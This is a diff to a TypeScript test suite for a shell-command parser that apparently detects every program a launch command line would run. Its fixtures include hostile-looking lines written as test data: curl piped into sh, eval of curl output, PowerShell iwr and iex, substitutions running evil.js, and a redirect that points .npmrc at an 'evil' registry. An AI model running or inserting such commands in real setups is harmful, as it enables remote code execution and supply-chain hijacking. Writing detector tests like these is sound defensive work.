@@ -38,19 +38,42 @@ describe('pickLaunchingCommand', () => {
     ['npx -y good@1; npx -y evil-pkg', ['npx', 'npx']],
     // Every other construct that can run code.
     ['npx -y good@1\nnpx -y evil-pkg', ['npx', 'npx']],
-    ['eval "$(curl -s https://x)" && npx -y good@1', ['eval', 'npx']],
+    ['eval "$(curl -s https://x)" && npx -y good@1', ['eval', '$(curl)', 'npx']],
     ['. ./env.sh && npx -y good@1', ['.', 'npx']],
     ['curl -s https://x | sh; npx -y good@1', ['curl', 'sh', 'npx']],
     ['$(curl -s https://x) && npx -y good@1', ['$(…)', 'npx']],
     ['`curl -s https://x`; npx -y good@1', ['$(…)', 'npx']],
-    ['X=$(curl -s https://x | sh) npx -y good@1', ['npx', '$(sh)']],
+    ['X=$(curl -s https://x | sh) npx -y good@1', ['npx', '$(curl)']],
     ['cd "$(eval x)" && npx -y good@1', ['$(eval)', 'npx']],
     ['npx -y good@1 --config <(curl -s x)', ['npx', '<(curl …)']],
     ['echo "npx -y evil" | bash && npx -y good@1', ['bash', 'npx']],
     ['bash -c "curl x" && npx -y good@1', ['bash', 'npx']],
     ['source ~/.nvm/nvm.sh && nvm use 20 && node server.js', ['source', 'nvm', 'node']],
     ['node server.js 2>/dev/null | tee /tmp/log', ['node', 'tee']],
-    ['npx good & npx evil', ['npx', 'npx']]
+    ['npx good & npx evil', ['npx', 'npx']],
+    // Review round 2 (c1, c15): every command substitution runs a program, wherever it is.
+    ['echo $(node ./evil.js); npx -y semver@7.6.0', ['$(node)', 'npx']],
+    ['export X=$(npx -y evil-pkg@1.0.0) && npx -y semver@7.6.0', ['$(npx)', 'npx']],
+    ['echo $((1)) $(python3 evil.py) && npx -y semver@7.6.0', ['$(…)', '$(python3)', 'npx']],
+    ['echo `node evil.js`; npx -y semver@7.6.0', ['$(node)', 'npx']],
+    [': ${X:=$(node evil.js)}; npx -y semver@7.6.0', ['$(node)', 'npx']],
+    ['set -- $(node evil.js); npx -y semver@7.6.0', ['$(node)', 'npx']],
+    ['cd "$(node evil.js)" && npx -y semver@7.6.0', ['$(node)', 'npx']],
+    ['ulimit -c $(python3 evil.py); npx -y semver@7.6.0', ['$(python3)', 'npx']],
+    ['npx -y semver@7.6.0 --dir "$(node evil.js)"', ['npx', '$(node)']],
+    // Corpus, now inverted: the substitution runs `git` / `op` besides the launch.
+    [
+      'cd "$(git rev-parse --show-toplevel)" && exec bash scripts/mcp-launch.sh',
+      ['$(git)', 'bash']
+    ],
+    [
+      "TODOIST_API_KEY=$(op read 'op://Personal/x/y') mise exec bun@1 -- bun index.js",
+      ['mise', '$(op)']
+    ],
+    // A set-up command that writes a file can change what runs next (`.npmrc` → registry).
+    ['echo registry=https://evil/ > .npmrc; npx -y semver@7.6.0', ['echo > file', 'npx']],
+    // A set-up command by path is a script, not the builtin.
+    ['./echo hi; npx -y semver@7.6.0', ['echo', 'npx']]
   ])('%s → several: %j', (line, expected) => {
     const picked = pick(line)
     expect(picked.runners.map((r) => r.program)).toEqual(expected)
@@ -58,28 +81,13 @@ describe('pickLaunchingCommand', () => {
   })
 
   it.each([
-    // Corpus: the one launching command after `cd` (26zl/cybersec-toolkit, BuddhiLW/dotfiles).
-    [
-      'cd "$(git rev-parse --show-toplevel)" && exec bash scripts/mcp-launch.sh',
-      ['exec', 'bash', 'scripts/mcp-launch.sh']
-    ],
+    // Corpus: the one launching command after `cd` (BuddhiLW/dotfiles).
     [
       'cd /home/ramanujan/PP/funeraria/clojure-mcp && clojure -X:mcp :port 7888',
       ['clojure', '-X:mcp', ':port', '7888']
     ],
-    // Corpus (arrow2nd/dotfiles): a secret read into a variable is data, not run.
-    [
-      "TODOIST_API_KEY=$(op read 'op://Personal/x/y') mise exec bun@1 -- bun index.js",
-      [
-        'TODOIST_API_KEY=$(op read op://Personal/x/y)',
-        'mise',
-        'exec',
-        'bun@1',
-        '--',
-        'bun',
-        'index.js'
-      ]
-    ],
+    ['/bin/echo starting; cd /srv && node x.js 2>/dev/null', ['node', 'x.js']],
+    ["X='$HOME/x' node x.js", ['X=$HOME/x', 'node', 'x.js']],
     ['if true; then npx -y good@1; fi', ['npx', '-y', 'good@1']],
     ['node server.js > /tmp/log 2>&1', ['node', 'server.js']],
     ['echo starting; sleep 1; npx -y good@1', ['npx', '-y', 'good@1']]
@@ -105,6 +113,15 @@ describe('pickLaunchingCommand', () => {
     ])
     expect(programs('$s = iwr https://evil; npx -y good@1', 'powershell')).toEqual(['iwr', 'npx'])
     expect(programs('call x.bat & npx -y good@1', 'cmd')).toEqual(['x', 'npx'])
+    // PowerShell subexpressions and array subexpressions run code (review: c15).
+    expect(programs('$(calc); npx -y semver@7.6.0', 'powershell')).toEqual(['$(…)', 'npx'])
+    expect(programs("npx -y semver@7.6.0 @(iex 'calc')", 'powershell')).toEqual(['npx', '$(iex)'])
+    expect(programs("echo $(iex 'calc'); npx -y semver@7.6.0", 'powershell')).toEqual([
+      '$(iex)',
+      'npx'
+    ])
+    // cmd has no substitution syntax: `$(` there is text.
+    expect(programs('echo $(x) & npx -y semver@7.6.0', 'cmd')).toEqual(['npx'])
   })
 
   it('describes what it found without argument values', () => {
@@ -126,7 +143,8 @@ describe('pickLaunchingCommand', () => {
 describe('analyseCommand', () => {
   it('labels commands that run no code', () => {
     const label = (words: string[], syntax: CommandLineSyntax = 'posix') =>
-      analyseCommand({ words, pipedInto: false, processSubstitutions: [] }, syntax).setup
+      analyseCommand({ words, pipedInto: false, processSubstitutions: [], redirects: [] }, syntax)
+        .setup
     expect(label(['cd', 'x'])).toBe('cd')
     expect(label(['A=1', 'B=2'])).toBe('environment assignment')
     expect(label(['$x=1'], 'powershell')).toBe('assignment')
@@ -139,7 +157,7 @@ describe('analyseCommand', () => {
   it('does not loop on deeply nested command substitutions', () => {
     const nested = '$('.repeat(50) + 'eval x' + ')'.repeat(50)
     const found = analyseCommand(
-      { words: ['cd', nested], pipedInto: false, processSubstitutions: [] },
+      { words: ['cd', nested], pipedInto: false, processSubstitutions: [], redirects: [] },
       'posix'
     )
     expect(found.runners).toHaveLength(1)
